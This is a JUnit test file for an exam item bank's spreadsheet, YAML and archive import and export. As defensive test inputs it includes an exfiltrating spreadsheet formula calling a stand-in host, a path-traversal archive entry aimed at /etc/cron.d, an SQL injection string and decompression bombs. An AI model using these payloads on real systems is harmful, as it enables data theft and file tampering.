package uz.artel.lms.exam.bank;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.persistence.EntityManager;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Function;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import uz.artel.lms.exam.bank.ItemReport.Outcome;
import uz.artel.lms.exam.media.MediaFiles;
import uz.artel.lms.shared.Archive;
import uz.artel.lms.shared.Audit;
import uz.artel.lms.shared.BadInput;
import uz.artel.lms.shared.CentreId;
import uz.artel.lms.shared.Clock;
import uz.artel.lms.shared.Digest;
import uz.artel.lms.shared.PersonId;
import uz.artel.lms.shared.TestCaller;
import uz.artel.lms.shared.TestDatabase;
import uz.artel.lms.shared.access.CurrentCaller;
import uz.artel.lms.shared.access.Role;
import uz.artel.lms.shared.content.ContentPack;
import uz.artel.lms.shared.content.Problems;
import uz.artel.lms.shared.signing.SealedFile;
import uz.artel.lms.shared.table.PlantedWorkbook;
import uz.artel.lms.shared.table.TableSheet;

/** Items that come in from files and go out in files. */
class ItemExchangeStoreTest {

    @RegisterExtension
    static final TestDatabase database = new TestDatabase();

    private static final char[] PASSWORD = "a password of words".toCharArray();
    private static final List<String> COLUMNS = ItemTable.columns(2);

    @BeforeAll
    static void vouch() {
        TestItems.vouchForTheirFact(database, new Clock().now());
    }

    private static <T> T with(Function<ItemExchange, T> work) {
        return TestCaller.as(
                TestCaller.of(new PersonId(7), new CentreId(1), Role.TRAINER),
                () -> database.tx(em -> work.apply(exchange(em))));
    }

    private static ItemExchange exchange(EntityManager em) {
        var caller = new CurrentCaller();
        return new ItemExchange(new EditedItems(em), new Clock(), caller, new Audit(em, new Clock(), caller));
    }

    private static void seed(String key, String pool, String category) {
        var item = """
                - key: %s
                  pool: %s
                  kind: numeric
                  category: %s
                  area: rules
                  competence: product
                  level: understand
                  difficulty: 4
                  facts: [a-fact]
                  stem: {ru: Сколько %s, uz: Qancha, en: How much}
                  answer: 2400
                  explanation: {ru: Потому, uz: Chunki, en: Because}
                """.formatted(key, pool, category, key);
        var pack = new ContentPack(Map.of("questions/all.yaml", item.getBytes(StandardCharsets.UTF_8)));
        QuestionFiles.entries(pack, new Problems())
                .forEach(e -> database.run(em -> new EditedItems(em).save(e.by("p:7"), 0, new Clock().now())));
    }

    private static List<String> row(String key, String category, Map<String, String> changes) {
        var cells = new HashMap<String, String>(Map.of(
                "key",
                key,
                "pool",
                "exam",
                "kind",
                "single",
                "category",
                category,
                "area",
                "rules",
                "competence",
                "product",
                "level",
                "apply",
                "difficulty",
                "3",
                "right",
                "a"));
        cells.put("facts", "a-fact");
        for (var lang : List.of("ru", "uz", "en")) {
            var word = lang.equals("ru") ? "Слово " : "Word ";
            cells.put("stem_" + lang, word + key);
            cells.put("option_1_" + lang, word + "1");
            cells.put("option_2_" + lang, word + "2");
            cells.put("explanation_" + lang, word);
        }
        cells.putAll(changes);
        return COLUMNS.stream().map(c -> cells.getOrDefault(c, "")).toList();
    }

    private static void guide(String kind, String key) {
        database.run(em -> em.createNativeQuery(
                        "INSERT INTO guide_edition (kind, entry_key, edition, digest, position, properties, imported_at)"
                                + " VALUES (?, ?, 1, ?, 1, '{}', '2026-11-01')")
                .setParameter(1, kind)
                .setParameter(2, key)
                .setParameter(3, new byte[32])
                .executeUpdate());
    }

    /** A row that is answered on a picture. */
    private static List<String> pictured(String key, String category, Map<String, String> changes) {
        var all = new HashMap<String, String>(Map.of(
                "kind", "hotspot",
                "option_1_at", "40 60 120 120",
                "option_2_at", "320 60 120 120",
                "picture", "plan.svg",
                "picture_title_ru", "план",
                "picture_title_uz", "reja",
                "picture_title_en", "a plan",
                "picture_source", "drawn here",
                "picture_licence", "our own"));
        all.putAll(changes);
        return row(key, category, all);
    }

    private static byte[] drawing(String colour) {
        return new String(ItemExamples.media().get("example-picture.svg"), StandardCharsets.UTF_8)
                .replace("#9fd0d2", colour)
                .getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] zip(List<List<String>> rows, Map<String, byte[]> media) {
        var files = new java.util.LinkedHashMap<String, byte[]>();
        files.put("questions of mine/items.xlsx", TableSheet.xlsx("items", COLUMNS, rows));
        media.forEach((name, bytes) -> files.put("questions of mine/" + name, bytes));
        return Archive.write(files);
    }

    private static int versions(String key) {
        return database.tx(em -> new EditedItems(em).versions(key)).size();
    }

    private static String told(ItemReport report) {
        return report.lines().stream()
                .map(l -> l.number() + " " + l.key() + " " + l.outcome()
                        + l.faults().stream()
                                .map(f -> " [" + f.place() + ": " + (f.key() == null ? f.sentence() : f.key()) + "]")
                                .collect(Collectors.joining()))
                .collect(Collectors.joining("\n"));
    }

    private static List<String> trail(String act) {
        return database.tx(em -> {
            List<?> rows = em.createNativeQuery(
                            "SELECT p.payload FROM audit_line a JOIN audit_payload p ON p.line_id = a.id"
                                    + " WHERE a.act = ? ORDER BY a.id")
                    .setParameter(1, act)
                    .getResultList();
            return rows.stream()
                    .map(p -> new String((byte[]) p, StandardCharsets.UTF_8))
                    .toList();
        });
    }

    @Test
    void good_rows_are_stored_as_drafts_of_whoever_brings_them_and_bad_ones_are_told_by_row_and_column() {
        seed("known-1", "exam", "cat-rows");
        var file = TableSheet.xlsx(
                "items",
                COLUMNS,
                List.of(
                        row("row-1", "cat-rows", Map.of()),
                        row("row-2", "cat-rows", Map.of("stem_uz", "", "facts", "nobody-said")),
                        row("row-3", "cat-rows", Map.of("right", "z")),
                        row("known-1", "cat-rows", Map.of()),
                        row("row-5", "cat-rows", Map.of("enemies", "row-1 row-2")),
                        row("row-1", "cat-rows", Map.of()),
                        row("row-7", "cat-rows", Map.of("level", "guess")),
                        row("row-8", "cat-rows", Map.of("facts", ""))));
        var report = with(e -> e.bring(file, null));
        assertEquals("""
                2 row-1 NEW
                3 row-2 REFUSED [facts: problem.itemFact] [stem_uz: problem.required]
                4 row-3 REFUSED [right: problem.itemRight]
                5 known-1 REFUSED [kind: problem.itemKind]
                6 row-5 NEW [enemies: problem.itemEnemyLost]
                7 row-1 REFUSED [key: problem.itemTwice]
                8 row-7 REFUSED [level: problem.itemOneOf]
                9 row-8 REFUSED [facts: problem.itemAtLeastOne]""", told(report));
        assertEquals(
                List.of(1, 0, 0, 1, 1, 0),
                List.of(
                        versions("row-1"),
                        versions("row-2"),
                        versions("row-3"),
                        versions("known-1"),
                        versions("row-5"),
                        versions("row-7")));
        var stored = database.tx(em -> new EditedItems(em).versions("row-1")).get(0);
        assertEquals(new ItemLife(ItemStatus.DRAFT, "p:7", null, null), stored.life());
        assertFalse(stored.shipped());
        assertEquals(
                List.of("row-5"),
                List.copyOf(database.tx(em -> new EditedItems(em).enemies()).get("row-1")));
        var lines = trail("item.import").size();
        var again = with(e -> e.bring(file, null));
        assertEquals(2, again.count(Outcome.SAME), told(again));
        assertTrue(told(again).contains("6 row-5 SAME [enemies: problem.itemEnemyLost]"), told(again));
        assertEquals(0, again.count(Outcome.NEW) + again.count(Outcome.CHANGED));
        assertEquals(1, versions("row-1"));
        assertEquals(lines, trail("item.import").size(), "what changes nothing is no act");
    }

    @Test
    void an_enemy_that_was_refused_is_told_where_it_is_named_until_it_comes() {
        seed("foe-0", "exam", "cat-foe");
        var named = row("foe-1", "cat-foe", Map.of("enemies", "foe-2 foe-0"));
        var refused = TableSheet.xlsx(
                "items", COLUMNS, List.of(named, row("foe-2", "cat-foe", Map.of("facts", "nobody-said"))));
        var report = with(e -> e.bring(refused, null));
        assertEquals(
                List.of(ItemFault.of("enemies", "itemEnemyLost", "foe-2")),
                report.lines().get(0).faults());
        assertEquals(
                Set.of("foe-0"), database.tx(em -> new EditedItems(em).enemies().get("foe-1")));
        var mended = TableSheet.xlsx("items", COLUMNS, List.of(named, row("foe-2", "cat-foe", Map.of())));
        assertEquals("2 foe-1 SAME\n3 foe-2 NEW", told(with(e -> e.bring(mended, null))));
        assertEquals(
                Set.of("foe-0", "foe-2"),
                database.tx(em -> new EditedItems(em).enemies().get("foe-1")));
    }

    @Test
    void an_xlsx_with_formulas_a_million_rows_or_a_bomb_is_refused_and_nothing_is_lost() {
        seed("safe-1", "exam", "cat-safe");
        var head = new StringBuilder("<row r=\"1\">");
        for (int i = 0; i < COLUMNS.size(); i++) {
            head.append(PlantedWorkbook.text(uz.artel.lms.shared.table.Table.letters(i) + "1", COLUMNS.get(i)));
        }
        head.append("</row>");
        var formulas = PlantedWorkbook.of(head + "<row r=\"2\">" + PlantedWorkbook.text("A2", "formula-1")
                + "<c r=\"B2\"><f>WEBSERVICE(\"http://x/\"&amp;C2)</f><v>1</v></c></row>");
        assertEquals("2 formula-1 REFUSED [pool: problem.formula]", told(with(e -> e.bring(formulas.bytes(), null))));
        var million = new StringBuilder(head);
        for (int row = 2; row <= 1_000_001; row++) {
            million.append("<row r=\"").append(row).append("\"><c><v>1</v></c></row>");
        }
        refused("rows", PlantedWorkbook.of(million.toString()).bytes());
        refused(
                "fileInflated",
                PlantedWorkbook.of(head + " ".repeat(40 * 1024 * 1024)).bytes());
        refused(
                "fileBroken",
                PlantedWorkbook.of("<row r=\"1\"><c r=\"ZZZZZZ1\"/></row>").bytes());
        refused(
                "columnUnknown",
                "key;pool;kind;category;area;competence;level;difficulty;stem_ru;colour\n1"
                        .getBytes(StandardCharsets.UTF_8));
        refused("columns", "key;pool\na;exam".getBytes(StandardCharsets.UTF_8));
        refused("fileLarge", new byte[ItemExchange.MAX_KB * 1024 + 1]);
        refused("fileEmpty", new byte[0]);
        assertEquals(0, versions("formula-1"));
        assertEquals(1, versions("safe-1"));
    }

    private static void refused(String problem, byte[] file) {
        var refusal = assertThrows(BadInput.class, () -> with(e -> e.bring(file, null)));
        assertEquals("problem." + problem, refusal.key());
    }

    @Test
    void a_content_file_goes_out_and_comes_in_again_and_its_refused_items_are_told_by_line() {
        seed("plain-1", "practice", "cat-plain");
        var out = with(e -> e.export(Pool.PRACTICE, "cat-plain", ItemExchange.Form.CONTENT, null));
        assertEquals("practice-items-cat-plain.yaml", out.name());
        var text = new String(out.bytes(), StandardCharsets.UTF_8);
        assertTrue(text.contains("key: plain-1"), text);
        assertEquals("1 plain-1 SAME", told(with(e -> e.bring(out.bytes(), null))));
        var more = text
                + text.replace("plain-1", "plain-2")
                + text.replace("plain-1", "plain-3").replace("uz: Qancha", "uz: ''");
        var report = with(e -> e.bring(more.getBytes(StandardCharsets.UTF_8), null));
        assertEquals(
                List.of(Outcome.SAME, Outcome.NEW, Outcome.REFUSED),
                report.lines().stream().map(ItemReport.Line::outcome).toList());
        assertEquals(0, versions("plain-3"));
        var changed = text.replace("Сколько", "Сколько же");
        assertEquals("1 plain-1 CHANGED", told(with(e -> e.bring(changed.getBytes(StandardCharsets.UTF_8), null))));
        assertEquals(2, versions("plain-1"));
        var broken = with(e -> e.bring("- key: a\n  stem: {\n".getBytes(StandardCharsets.UTF_8), null));
        assertEquals(1, broken.count(Outcome.REFUSED), told(broken));
    }

    @Test
    void exam_items_leave_only_sealed_and_the_trail_names_who_took_what_but_no_password() {
        seed("secret-1", "exam", "cat-secret");
        for (var form : ItemExchange.Form.values()) {
            for (var none : new char[][] {null, {}, "short".toCharArray()}) {
                var refusal =
                        assertThrows(BadInput.class, () -> with(e -> e.export(Pool.EXAM, "cat-secret", form, none)));
                assertEquals("password", refusal.field());
            }
        }
        assertEquals(
                List.of(),
                trail("item.export").stream()
                        .filter(t -> t.contains("cat-secret"))
                        .toList());
        var out = with(e -> e.export(Pool.EXAM, "cat-secret", ItemExchange.Form.WORKBOOK, PASSWORD));
        assertEquals("exam-items-cat-secret.xlsx.sealed", out.name());
        assertTrue(SealedFile.isOne(out.bytes()));
        assertFalse(new String(out.bytes(), StandardCharsets.ISO_8859_1).contains("secret-1"));
        var trail = trail("item.export").stream()
                .filter(t -> t.contains("cat-secret"))
                .toList();
        assertEquals(1, trail.size());
        assertTrue(trail.get(0).contains("keys=secret-1") && trail.get(0).contains("sha256="), trail.get(0));
        assertFalse(trail.get(0).contains(new String(PASSWORD)), trail.get(0));
        assertEquals("2 secret-1 SAME", told(with(e -> e.bring(out.bytes(), PASSWORD))));
        var wrong =
                assertThrows(BadInput.class, () -> with(e -> e.bring(out.bytes(), "another password".toCharArray())));
        assertEquals("problem.sealClosed", wrong.key());
        assertThrows(BadInput.class, () -> with(e -> e.bring(out.bytes(), null)));
    }

    @Test
    void the_template_can_be_filled_and_brought() {
        seed("rules-1", "practice", "rules");
        TestItems.plantFact(database, ItemExamples.FACT);
        guide("safety", "S0");
        var template = with(ItemExchange::template);
        var report = with(e -> e.bring(template.bytes(), null));
        assertEquals(ItemKind.values().length, report.count(Outcome.NEW), told(report));
        assertEquals(0, report.count(Outcome.REFUSED), told(report));
    }

    @Test
    void an_unknown_category_or_an_empty_one_makes_no_file() {
        for (var category : List.of("nobody", "' OR 1=1", "Ё")) {
            var refusal = assertThrows(
                    BadInput.class,
                    () -> with(e -> e.export(Pool.PRACTICE, category, ItemExchange.Form.CONTENT, null)));
            assertEquals("category", refusal.field());
        }
    }

    @Test
    void rows_bring_their_pictures_and_recordings_beside_the_table_and_each_that_is_refused_says_why() {
        seed("shown-0", "exam", "cat-shown");
        var media = new java.util.TreeMap<String, byte[]>();
        media.put("media/plan.svg", drawing("#000001"));
        media.put("media/Звук.WAV", ItemExamples.media().get("example-recording.wav"));
        media.put("media/giant.svg", ("<svg>" + " ".repeat(310 * 1024)).getBytes(StandardCharsets.UTF_8));
        media.put("media/program.png", "MZ program".getBytes(StandardCharsets.UTF_8));
        media.put("media/forgotten.svg", drawing("#000002"));
        media.put("media/other.svg", drawing("#000003"));
        var heard = Map.of(
                "recording", "звук.wav",
                "recording_title_ru", "звук",
                "recording_title_uz", "tovush",
                "recording_title_en", "a sound",
                "recording_source", "made here",
                "recording_licence", "our own",
                "plays", "2",
                "transcript_ru", "Тон",
                "transcript_uz", "Ton",
                "transcript_en", "A tone");
        var rows = List.of(
                pictured("shown-1", "cat-shown", heard),
                pictured("shown-2", "cat-shown", Map.of("picture", "MEDIA/PLAN.SVG", "picture_source", "")),
                pictured("shown-3", "cat-shown", Map.of("picture", "nowhere.png")),
                pictured("shown-4", "cat-shown", Map.of("picture", "giant.svg")),
                pictured("shown-5", "cat-shown", Map.of("picture", "program.png")),
                pictured("shown-6", "cat-shown", Map.of("picture", "other.svg", "picture_licence", "")),
                pictured("shown-7", "cat-shown", Map.of("picture", "звук.wav")),
                pictured("shown-8", "cat-shown", Map.of("option_2_at", "330 60 300 120")),
                pictured("shown-9", "cat-shown", Map.of("picture_title_uz", "")),
                row("shown-10", "cat-shown", heard));
        var file = zip(rows, media);
        var report = with(e -> e.bring(file, null));
        assertEquals("""
                2 shown-1 NEW
                3 shown-2 NEW
                4 shown-3 REFUSED [picture: problem.itemMedium]
                5 shown-4 REFUSED [picture: problem.itemMediumLarge]
                6 shown-5 REFUSED [picture: problem.itemMediumType]
                7 shown-6 REFUSED [picture_licence: problem.itemSource]
                8 shown-7 REFUSED [picture: problem.itemMediumOther]
                9 shown-8 REFUSED [option_2_at: problem.itemZoneOutside]
                10 shown-9 REFUSED [picture_title_uz: problem.required]
                11 shown-10 NEW
                0 media/forgotten.svg REFUSED [: problem.itemMediumUnused]""", told(report));
        var stored = database.tx(em -> new EditedItems(em).versions("shown-1"))
                .get(0)
                .content()
                .particulars();
        assertEquals(Digest.hex(drawing("#000001")), stored.picture().digest());
        assertEquals(2, stored.stimulus().plays());
        assertEquals(
                List.of(true, false, false),
                database.tx(em -> List.of("#000001", "#000002", "#000003").stream()
                        .map(colour -> new EditedItems(em).media().has(Digest.hex(drawing(colour))))
                        .toList()),
                "of what no good row shows nothing is stored");
        assertEquals(3, with(e -> e.bring(file, null)).count(Outcome.SAME));
        // what the bank has needs no file any more
        var named = TableSheet.xlsx(
                "items",
                COLUMNS,
                List.of(pictured(
                        "shown-11",
                        "cat-shown",
                        Map.of("picture", stored.picture().digest()))));
        assertEquals("2 shown-11 NEW", told(with(e -> e.bring(named, null))));
    }

    @Test
    void items_leave_with_what_they_show_as_a_table_or_as_a_content_folder_and_come_in_as_they_were() {
        seed("media-0", "exam", "cat-media");
        var media = Map.of("plan.svg", drawing("#000011"));
        with(e -> e.bring(
                zip(
                        List.of(pictured("media-1", "cat-media", Map.of()), pictured("media-2", "cat-media", Map.of())),
                        media),
                null));
        var table = with(e -> e.export(Pool.EXAM, "cat-media", ItemExchange.Form.WORKBOOK, PASSWORD));
        assertEquals("exam-items-cat-media.zip.sealed", table.name());
        assertFalse(
                new String(table.bytes(), StandardCharsets.ISO_8859_1).contains("<svg"), "the picture is sealed too");
        var opened = Archive.read(SealedFile.open(table.bytes(), PASSWORD), new Archive.Limits(10, 1_024));
        assertEquals(
                "[exam-items-cat-media.xlsx, media/media-1-picture.svg]",
                opened.keySet().toString(),
                "what two items show is packed once");
        assertEquals(3, with(e -> e.bring(table.bytes(), PASSWORD)).count(Outcome.SAME));

        var folder = with(e -> e.export(Pool.EXAM, "cat-media", ItemExchange.Form.CONTENT, PASSWORD));
        var files = Archive.read(SealedFile.open(folder.bytes(), PASSWORD), new Archive.Limits(10, 1_024));
        assertEquals(
                "[media/media-1-picture.svg, media/media.yaml, questions/exam-items-cat-media.yaml]",
                files.keySet().toString());
        var problems = new Problems();
        problems.define("fact", "a-fact", "facts/all.yaml", 1);
        new MediaFiles().check(new ContentPack(files), problems);
        assertEquals(3, QuestionFiles.read(new ContentPack(files), problems).size());
        assertEquals(List.of(), problems.finish(), "the archive is a content folder");
        var back = with(e -> e.bring(folder.bytes(), PASSWORD));
        assertEquals(3, back.count(Outcome.SAME), told(back));

        // where nobody has seen the picture yet it comes along, with whose it is
        var fresh = new java.util.TreeMap<>(files);
        fresh.put("media/media-1-picture.svg", drawing("#000012"));
        var elsewhere = with(e -> e.bring(Archive.write(fresh), null));
        assertEquals(2, elsewhere.count(Outcome.CHANGED), told(elsewhere));
        var medium = database.tx(em -> new EditedItems(em).media().find(Digest.hex(drawing("#000012"))))
                .orElseThrow();
        assertEquals(List.of("drawn here", "our own"), List.of(medium.source(), medium.licence()));
    }

    @Test
    void an_archive_that_leads_out_unpacks_to_too_much_or_holds_no_table_is_refused_whole() throws Exception {
        seed("packed-0", "exam", "cat-packed");
        var good = TableSheet.xlsx("items", COLUMNS, List.of(row("packed-1", "cat-packed", Map.of())));
        refused("archivePath", Archive.write(Map.of("items.xlsx", good, "../../etc/cron.d/x", new byte[1])));
        refused("fileInflated", Archive.write(Map.of("items.xlsx", good, "media/a.svg", new byte[70 * 1024 * 1024])));
        refused("archiveItems", Archive.write(Map.of("a.xlsx", good, "b.xlsx", good)));
        refused("archiveItems", Archive.write(Map.of("media/a.svg", drawing("#000021"))));
        var many = new HashMap<String, byte[]>(Map.of("items.xlsx", good));
        for (int i = 0; i < 1_000; i++) {
            many.put("media/" + i + ".svg", new byte[1]);
        }
        refused("archiveMany", Archive.write(many));
        var million = ("key;pool;kind;category;area;competence;level;difficulty;stem_ru\n" + "a;b\n".repeat(1_100_000))
                .getBytes(StandardCharsets.UTF_8);
        refused("rows", Archive.write(Map.of("items.csv", Arrays.copyOf(million, 4_000_000))));
        refused("fileLarge", Archive.write(Map.of("items.csv", million)));
        var torn = Archive.write(Map.of("items.xlsx", good));
        Arrays.fill(torn, 100, 140, (byte) 0x7f);
        refused("archiveBroken", torn);
        assertEquals(0, versions("packed-1"));
    }

    @Test
    void searches_and_cases_come_and_go_in_a_table_and_what_nobody_could_answer_is_refused() {
        seed("desk-0", "exam", "cat-desk");
        guide("card", "desk-card");
        var words = Map.of(
                "right",
                "",
                "option_1_ru",
                "",
                "option_1_uz",
                "",
                "option_1_en",
                "",
                "option_2_ru",
                "",
                "option_2_uz",
                "",
                "option_2_en",
                "");
        var search = new HashMap<>(words);
        search.putAll(Map.of("kind", "guide", "entries", "card/desk-card", "seconds", "120"));
        var lost = new HashMap<>(search);
        lost.put("entries", "card/nobody-wrote");
        var hurried = new HashMap<>(search);
        hurried.put("seconds", "5");
        var record = "type: {is: [consultation]}\nlanguage: {is: [ru]}\nname: {words: [[карим]], sample: Каримов}\n"
                + "phone: {is: [+998 00 311-20-45]}\ncategory: {is: [refrigerators]}\n"
                + "symptom: {words: [[холод]], sample: Холодильник не холодит}\nsafety: {is: [none]}\noutcome: {is: [SELF]}";
        var written = new HashMap<>(words);
        written.putAll(Map.of("kind", "crm", "seconds", "300", "day", "2026-11-02", "record", record));
        var unsavable = new HashMap<>(written);
        unsavable.put("record", record.replace("SELF", "REQ"));
        var unreadable = new HashMap<>(written);
        unreadable.put("record", "type: {is: [");
        var file = TableSheet.xlsx(
                "items",
                COLUMNS,
                List.of(
                        row("desk-1", "cat-desk", search),
                        row("desk-2", "cat-desk", lost),
                        row("desk-3", "cat-desk", hurried),
                        row("desk-4", "cat-desk", written),
                        row("desk-5", "cat-desk", unreadable),
                        row("desk-6", "cat-desk", unsavable)));
        var report = with(e -> e.bring(file, null));
        var lines = told(report).split("\n");
        assertEquals("2 desk-1 NEW", lines[0]);
        assertEquals("3 desk-2 REFUSED [entries: problem.itemEntry]", lines[1]);
        assertEquals("4 desk-3 REFUSED [seconds: problem.itemWhole]", lines[2]);
        assertEquals("5 desk-4 NEW", lines[3]);
        assertTrue(lines[4].startsWith("6 desk-5 REFUSED [record: problem.itemRecord]"), lines[4]);
        assertTrue(lines[5].startsWith("7 desk-6 REFUSED [record: problem.itemRecordNeeds]"), lines[5]);
        var out = with(e -> e.export(Pool.EXAM, "cat-desk", ItemExchange.Form.WORKBOOK, PASSWORD));
        assertEquals("exam-items-cat-desk.xlsx.sealed", out.name());
        assertEquals(3, with(e -> e.bring(out.bytes(), PASSWORD)).count(Outcome.SAME));
    }
}
